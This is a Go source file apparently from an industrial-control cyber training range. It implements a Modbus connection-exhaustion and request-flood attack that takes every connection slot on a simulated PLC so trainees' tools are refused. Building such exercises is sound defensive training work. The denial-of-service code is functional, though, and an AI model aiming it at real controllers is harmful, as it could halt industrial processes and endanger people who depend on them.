package plants

import (
	"net"
	"sync"
	"time"

	"github.com/icsrange/icsrange/plant-sim/modbus"
)

// flood is a connection-exhaustion and request-flood attack (ATT&CK T0814):
// it takes every connection slot the PLC has and keeps each busy, so
// trainees' tools are refused until it ends or the source is blocked.
// Requests are paced so the attack loads the PLC, not the engine's CPU.
type flood struct {
	until time.Duration // exercise time the flood ends
	from  string        // source host
	zone  string        // target PLC's zone
	done  chan struct{}
	wg    sync.WaitGroup
	once  sync.Once
	mu    sync.Mutex
	open  []net.Conn
}

func startFlood(addr string, unit byte, slots int, attribute func(local net.Addr)) *flood {
	f := &flood{done: make(chan struct{})}
	for range slots {
		conn, err := net.DialTimeout("tcp", addr, time.Second)
		if err != nil {
			break
		}
		attribute(conn.LocalAddr())
		f.open = append(f.open, conn)
		f.wg.Add(1)
		go f.hammer(conn, unit)
	}
	return f
}

func (f *flood) conns() int {
	f.mu.Lock()
	defer f.mu.Unlock()
	return len(f.open)
}

func (f *flood) hammer(conn net.Conn, unit byte) {
	defer f.wg.Done()
	c := modbus.NewClient(conn)
	c.Timeout = time.Second
	t := time.NewTicker(20 * time.Millisecond)
	defer t.Stop()
	for {
		select {
		case <-f.done:
			return
		case <-t.C:
			if _, err := c.ReadHoldingRegisters(unit, 0, 1); err != nil {
				if _, isEx := err.(modbus.Exception); !isEx {
					return
				}
			}
		}
	}
}

func (f *flood) stop() {
	f.once.Do(func() {
		close(f.done)
		f.mu.Lock()
		for _, c := range f.open {
			c.Close()
		}
		f.mu.Unlock()
		f.wg.Wait()
	})
}
